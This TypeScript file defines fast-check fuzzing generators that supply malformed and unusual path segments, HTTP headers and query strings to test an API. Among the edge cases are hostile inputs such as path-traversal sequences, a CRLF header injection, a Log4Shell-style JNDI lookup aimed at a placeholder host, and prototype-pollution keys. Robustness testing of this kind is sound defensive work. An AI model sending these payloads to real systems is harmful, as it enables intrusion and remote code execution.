import * as fc from "fast-check";
import { ODD_TIMES, oddText } from "./odd-values.ts";

/** Less than the maximum of servers for all headers together; larger heads get a response without the app. */
const LONGEST_SEGMENT = 4000;

/** A part of a path as it is sent. */
export const oddSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: oddText.map(encode).filter(({ length }) => length < LONGEST_SEGMENT) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "..",
      ".",
      "%2e%2e",
      "%2e",
      "..%2f..",
      "..%5c..",
      "%2F",
      "%5C",
      "%00",
      "%0d%0aX-Injected:%20yes",
      "%zz",
      "%",
      "%c3%28",
      "%ff",
      "%u0041",
      "a%20b",
      "a+b",
      "~",
      "{id}",
      "{*path}",
      "@x@y",
      "a;b=c",
      "a,b",
      "a:b",
      "$batch",
      "__proto__",
      "constructor",
      "null",
      "-",
      "_",
      "%25",
      "%252e%252e",
      "%E2%80%AE",
      // Overlong encodings, half of a surrogate pair, two compositions of a letter, and alternatives to dots and
      // slashes.
      "%c0%ae%c0%ae",
      "%ed%a0%80",
      "e%cc%81",
      "%c3%a9",
      "%ef%bc%8e%ef%bc%8e",
      "%e2%88%95",
      "%09",
      "%7f",
      "%0a",
      "%20",
      "%2e%2e%5c",
      "%2e.",
      "a%2520b",
      "a|b",
      "a^b",
      "a`b",
      "<a>",
      '"a"',
      "[a]",
      "a\\b",
      "a".repeat(255),
      "a".repeat(256),
    ),
  },
);

/** Not every JavaScript string can be encoded. */
function encode(text: string): string {
  return encodeURIComponent(text.toWellFormed()) || "%20";
}

const HEADER_TEXT = oddText
  .filter((text) => text.length < 5000)
  .map((text) =>
    Buffer.from(text.toWellFormed())
      .toString("latin1")
      .replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, "?"),
  );

const HEADERS: Readonly<Record<string, readonly string[]>> = {
  "content-type": [
    "text/plain",
    "application/xml",
    "application/json; charset=utf-16",
    "APPLICATION/JSON",
    "application/jsonx",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded",
    "text/csv",
    "text/csv; charset=utf-16",
    "text/csv; header=present; charset=utf-8",
    "application/json, application/json",
    'application/json; charset="utf-8',
    "application/json;",
    "application/json; charset=\u00e9",
    "application/merge-patch+json",
    "image/svg+xml",
    "",
    "*/*",
    ";",
    "image/jpeg",
  ],
  "idempotency-key": [
    "",
    "a".repeat(64),
    "a".repeat(65),
    "../x",
    "a b",
    "a,b",
    "\u00e9",
    "%00",
    "__proto__",
    "constructor",
    "-",
    "_",
    '"a"',
    "A",
    "a\ta",
    "a, a",
    "*",
  ],
  prefer: [
    "wait",
    "wait=",
    "wait=0",
    "wait=-1",
    "wait=1e9",
    "wait=1;q",
    'wait="1"',
    "wait=1, wait=2",
    "respond-async",
  ],
  range: [
    "bytes=",
    "bytes=-",
    "bytes=-0",
    "bytes=5-1",
    "bytes=0-0,1-1",
    "items=0-1",
    "bytes=99999999999999999999-",
    "bytes=-99999999999999999999",
    "bytes=0-99999999999999999999",
    `bytes=${"9".repeat(400)}-`,
    "bytes=0-0",
    "BYTES=0-0",
    "bytes= 0 - 0",
    "bytes=0x1-0x2",
    "bytes=1e1-1e2",
    "bytes=-1-2",
    "bytes=0-0-0",
    "bytes=\u00b2-",
    `bytes=${"0-,".repeat(1000)}0-`,
  ],
  "if-none-match": ["*", '""', "W/", '"a", "b"', ",", "W/*", '"', '*, "a"', `${'"a",'.repeat(1000)}*`],
  "if-match": ["*", '"a"', ","],
  "if-range": ['"x"', "yesterday", 'W/"x"', "", "Thu, 01 Jan 1970 00:00:00 GMT"],
  "if-modified-since": ["Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:60 GMT", "0", "yesterday"],
  "if-unmodified-since": ["Thu, 01 Jan 1970 00:00:00 GMT", "0"],
  "content-encoding": ["gzip", "identity", "deflate, br", "x", "", "gzip, gzip"],
  "content-range": ["bytes 0-1/2", "bytes 1-2/*", "x"],
  "content-language": ["x", "\u00e9"],
  "content-md5": ["x"],
  connection: ["close", "keep-alive, host", "content-length, x-ms-invocation-id", "upgrade"],
  upgrade: ["websocket", "h2c"],
  te: ["trailers", "x;q=2"],
  "max-forwards": ["0", "-1"],
  origin: ["null", "https://example.com", "javascript:"],
  "access-control-request-method": ["DELETE"],
  "accept-language": ["*;q=2", "\u00e9"],
  "user-agent": ["", "${jndi:ldap://example.com/a}", "\u00e9"],
  accept: ["text/html", "image/*", "*/*;q=0", ",,,", "text/html;q=0", "", "x"],
  "accept-encoding": ["gzip, br", "identity;q=0", "x"],
  host: [
    "",
    "localhost",
    "example.com",
    "a b",
    "[::1]",
    "[",
    "a:99999",
    "a:",
    "a:0",
    "0x7f.1",
    "xn--a",
    "a..b",
    "-",
    "a".repeat(255),
    "a".repeat(5000),
    "example.com/path",
    "user@example.com",
    "\u00e9",
  ],
  "x-forwarded-host": ["example.com", "a b", "", "[", "a, b"],
  "x-forwarded-proto": ["https", "javascript", "", "a b"],
  "x-ms-invocation-id": ["00000000-0000-0000-0000-000000000000", "", "x"],
  "x-original-url": ["/api/instances"],
  "x-http-method-override": ["DELETE"],
  "x-functions-key": ["x", ""],
  "x-ms-client-principal": ["x", "e30=", "bnVsbA=="],
  authorization: ["Bearer x", "Basic Og=="],
  cookie: ["a=b; a=c; =; ;", "__proto__=1"],
  traceparent: [
    "x",
    "00-0-0-00",
    `00-${"0".repeat(32)}-${"0".repeat(16)}-ff`,
    `ff-${"a".repeat(32)}-${"b".repeat(16)}-01`,
  ],
  tracestate: ["=", "a=b,".repeat(100), "\u00e9"],
  baggage: ["=", "a=b,".repeat(300)],
  "transfer-encoding": ["chunked"],
  expect: ["100-continue"],
};

/** A header that is wrong, unusual or too long. */
export const oddHeader: fc.Arbitrary<readonly [string, string]> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.constantFrom(
      ...Object.entries(HEADERS).flatMap(([name, values]) => values.map((v) => [name, v] as const)),
    ),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(
      fc.constantFrom("idempotency-key", "prefer", "range", "content-type", "x-any"),
      HEADER_TEXT,
    ),
  },
);

const QUERY_NAMES = [
  "continuation",
  "pattern",
  "status",
  "from",
  "to",
  "token",
  "code",
  "clientId",
  "taskHub",
  "__proto__",
  "a[b]",
  "FROM",
];

const base64url = (text: string) => Buffer.from(text, "latin1").toString("base64url");

/** Values that parameters of this API check. */
const QUERY_VALUES = [
  ...ODD_TIMES,
  ...["\u0000", "\r\nx: y", "a b", "\u00ff", "{}", "null", "1", "-1", "9".repeat(400), "a".repeat(2900)].map(
    base64url,
  ),
  "orders",
  "completed",
  "completed,completed",
  "completed,",
  ",",
];

const oddPair = fc
  .tuple(
    fc.oneof(fc.constantFrom(...QUERY_NAMES), oddSegment),
    fc.oneof(oddSegment, fc.constantFrom(...QUERY_VALUES).map(encodeURIComponent)),
  )
  .map(([name, value]) => `${name}=${value}`);

/** A query, from the question mark on. */
export const oddQuery: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.array(oddPair, { minLength: 1, maxLength: 3 }).map((pairs) => `?${pairs.join("&")}`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "?",
      "??",
      "?&",
      "?&&=&",
      "?=",
      "?=x",
      "?from",
      "?from=&to=",
      "?from=2026-01-01T00:00:00Z&from=2026-01-02T00:00:00Z",
      "?status=failed&status=failed",
      `?${"a&".repeat(2000)}`,
      `?x=${"a".repeat(7000)}`,
    ),
  },
);
